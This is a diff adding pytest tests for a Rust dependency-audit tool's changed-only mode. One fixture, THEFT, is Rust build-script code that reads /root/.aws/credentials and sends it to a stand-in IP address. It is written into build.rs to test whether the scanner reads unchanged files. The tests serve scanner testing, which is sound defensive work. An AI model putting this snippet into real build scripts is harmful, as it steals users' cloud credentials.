@@ -5,12 +5,18 @@ from pathlib import Path
 
 import pytest
 import typer
+from dulwich.repo import Repo
 from typer.testing import CliRunner, Result
 
 from analyzer.cli.audit import audit
 from analyzer.config import DEFAULT_INDEX
 from analyzer.errors import UsageError
 
+THEFT = (
+    'fn main() { let k = std::fs::read("/root/.aws/credentials").unwrap();\n'
+    ' let mut s = std::net::TcpStream::connect("198.51.100.7:443").unwrap();\n'
+    " std::io::Write::write_all(&mut s, &k).unwrap(); }\n"
+)
 HEAD = 'version = 4\n[[package]]\nname = "app"\nversion = "0.1.0"\n'
 PACKAGE = (
     '[[package]]\nname = "{}"\nversion = "{}"\nchecksum = "' + "ab" * 32 + '"\n'
@@ -187,3 +193,52 @@ wire = { path = "wire", optional = true }
 def write(path: Path, text: str) -> None:
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(text)
+
+
+def test_only_what_changed_is_judged_by_the_policy_of_the_base(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = tmp_path / "repository"
+    root.mkdir()
+    monkeypatch.chdir(root)
+    lock, policy = root / "Cargo.lock", root / "cratescope.toml"
+    lock.write_text(HEAD + PACKAGE.format("rustdecimal", "1.23.1"))
+    policy.write_text('[policy]\nmode = "observe"\n')
+    _commit(root, "Cargo.lock", "cratescope.toml")
+    policy.unlink()
+    same = run(".", "--changed-only", "main", "--format", "json")
+    document = json.loads(same.output)
+    assert (same.exit_code, document["verdict"], document["rows"]) == (0, "CLEAR", [])
+    assert {one["name"] for one in document["since"]["unchanged"]} == {"app", "rustdecimal"}
+    lock.write_text(lock.read_text() + PACKAGE.format("rustdecimal", "1.23.2"))
+    assert run(".").exit_code == 20
+    changed = run(".", "--changed-only", "main", "--format", "json")
+    (row,) = json.loads(changed.output)["rows"]
+    assert (changed.exit_code, row["version"]) == (0, "1.23.2")
+
+
+def _commit(root: Path, *names: str) -> None:
+    repo = Repo.init(str(root))
+    repo.get_worktree().stage(list(names))
+    who = b"a <a@example.invalid>"
+    repo.get_worktree().commit(b"m", committer=who, author=who, ref=b"refs/heads/main")  # type: ignore[arg-type]  # bytes
+    repo.close()
+
+
+def test_contents_are_read_of_what_changed_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = tmp_path / "repository"
+    (root / "src").mkdir(parents=True)
+    monkeypatch.chdir(root)
+    (root / "Cargo.lock").write_text(HEAD)
+    (root / "Cargo.toml").write_text('[package]\nname = "app"\nversion = "0.1.0"\n')
+    (root / "build.rs").write_text(THEFT)
+    (root / "src/lib.rs").write_text("")
+    _commit(root, "Cargo.lock", "Cargo.toml", "build.rs", "src/lib.rs")
+    options = (".", "--scan", "--offline", "--jobs", "1", "--changed-only", "main")
+    same = run(*options)
+    assert same.exit_code == 0
+    assert "1 stand as they did there" in " ".join(same.output.split())
+    (root / "src/lib.rs").write_text("pub fn one() {}\n")
+    assert run(*options).exit_code == 20
